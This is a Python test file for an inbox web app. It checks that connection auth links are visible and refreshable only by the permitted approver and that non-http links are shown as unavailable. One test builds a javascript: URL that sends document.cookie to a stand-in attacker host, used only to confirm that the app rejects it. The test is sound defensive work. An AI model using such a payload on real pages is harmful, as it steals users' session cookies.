"""Auth links are credentials: only those who may decide a connection see or refresh its
link, and only an http(s) link is ever shown or returned."""

from __future__ import annotations

import html
import uuid
from datetime import timedelta

import httpx
import pytest
from temporalio.client import Client

from geniectl import GenieConversations
from inbox import _app, _web
from inbox._settings import load_inbox_config
from tests.inbox.conftest import ClientFor
from tests.inbox.helpers import csrf_of, dev_login, history_length, listed, paused_connection
from tests.workflow.helpers import GENIE, convs
from workflows import ConversationPolicy
from workflows.models import AuthLink, PendingConnection


async def _connection_for_alice(api: GenieConversations) -> tuple[str, PendingConnection]:
    """A conversation only alice may decide, paused on a runtime connection."""
    wid = f"inbox-{uuid.uuid4().hex[:12]}"
    policy = ConversationPolicy(approvers=["alice"], connection_poll_interval=timedelta(0))
    await api.start(GENIE, "user-1", workflow_id=wid, policy=policy)
    acc = await api.send(wid, "connect:jira")
    res = await api.wait(wid, acc.turn)
    assert res.status == "awaiting_connection", res
    await listed(api.client, wid)
    return wid, res.pending.connections[0]


async def test_a_reader_who_may_not_decide_never_sees_or_refreshes_the_auth_link(
    client: Client, task_queue: str, client_for: ClientFor
) -> None:
    api = convs(client, task_queue)
    wid, conn = await _connection_for_alice(api)
    assert conn.auth_url
    url = html.escape(conn.auth_url)
    mallory = client_for("dev")
    csrf = await dev_login(mallory, f"mallory-{uuid.uuid4().hex[:6]}")
    path = f"/items/{wid}/connection/{conn.attempt_id}"

    # Every view: the item page, the pending page and its fragment, the conversation page
    # and both JSON views. The item is listed, read-only, without its link.
    page = await mallory.get(path)
    assert page.status_code == 200 and "Read-only: only alice may decide" in page.text
    assert url not in page.text and "Get a fresh link" not in page.text
    for view in ("/pending", "/pending/fragment", f"/conversations/{wid}"):
        r = await mallory.get(view)
        assert r.status_code == 200 and url not in r.text, view
    (mine,) = [
        i
        for i in (await mallory.get("/api/pending")).json()["items"]
        if i["ref"] == conn.attempt_id
    ]
    assert mine["can_decide"] is False and mine["auth_url"] is None
    one = (await mallory.get(f"/api/conversations/{wid}")).json()
    assert conn.auth_url not in str(one)
    assert one["items"][0]["auth_url"] is None
    assert one["status"]["pending_connections"][0]["auth_url"] is None

    # Refreshing is refused with 403, and nothing reaches the conversation.
    before = await history_length(api, wid)
    r = await mallory.post(
        f"/api/auth-links/{wid}/{conn.attempt_id}", headers={"X-CSRF-Token": csrf}
    )
    assert r.status_code == 403, r.text
    err = r.json()["error"]
    assert err["type"] == "NotAllowed" and "only alice may decide" in err["message"]
    assert "link" not in r.json()
    r = await mallory.post(f"{path}/link", data={"csrf_token": csrf})
    assert r.status_code == 403 and "may see or refresh its auth link" in r.text
    assert "Get a fresh link" not in r.text and url not in r.text
    assert await history_length(api, wid) == before
    assert (await api.status(wid)).pending_connections[0].auth_url == conn.auth_url

    # The one who may decide sees it everywhere and refreshes it.
    alice = client_for("dev")
    alice_csrf = await dev_login(alice, "alice")
    page = await alice.get(path)
    assert url in page.text and "Get a fresh link" in page.text
    (hers,) = [
        i for i in (await alice.get("/api/pending")).json()["items"] if i["ref"] == conn.attempt_id
    ]
    assert hers["can_decide"] is True and hers["auth_url"] == conn.auth_url
    one = (await alice.get(f"/api/conversations/{wid}")).json()
    assert one["status"]["pending_connections"][0]["auth_url"] == conn.auth_url
    r = await alice.post(
        f"/api/auth-links/{wid}/{conn.attempt_id}", headers={"X-CSRF-Token": alice_csrf}
    )
    assert r.status_code == 200 and r.json()["link"]["url"].startswith("http")
    assert await history_length(api, wid) > before


async def test_a_fresh_link_that_is_not_http_is_shown_as_unavailable(
    client: Client, task_queue: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = convs(client, task_queue)
    wid, _, conn = await paused_connection(api)
    evil = "javascript:fetch('//evil.example/'+document.cookie)"

    async def hostile(self: _web.Inbox, wid: str, ref: str) -> AuthLink:
        # What a hostile or broken Genie API could answer for a fresh link.
        return AuthLink(attempt_id=ref, status="auth_required", url=evil)

    monkeypatch.setattr(_web.Inbox, "auth_link", hostile)
    monkeypatch.delenv("GENIE_INBOX_AUTH", raising=False)
    config = load_inbox_config(auth="dev", allow_dev=True, dev_name="alice")
    app = _app.create_app(config, client=client, task_queue=task_queue)
    transport = httpx.ASGITransport(app=app)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=transport, base_url="http://inbox.test") as http,
    ):
        path = f"/items/{wid}/connection/{conn.attempt_id}"
        csrf = csrf_of((await http.get(path)).text)
        r = await http.post(f"{path}/link", data={"csrf_token": csrf})
        assert r.status_code == 200
        assert "javascript:" not in r.text and "No link is available right now." in r.text
        r = await http.post(
            f"/api/auth-links/{wid}/{conn.attempt_id}", headers={"X-CSRF-Token": csrf}
        )
        assert r.status_code == 200
        assert r.json()["link"]["url"] is None and r.json()["link"]["status"] == "unavailable"
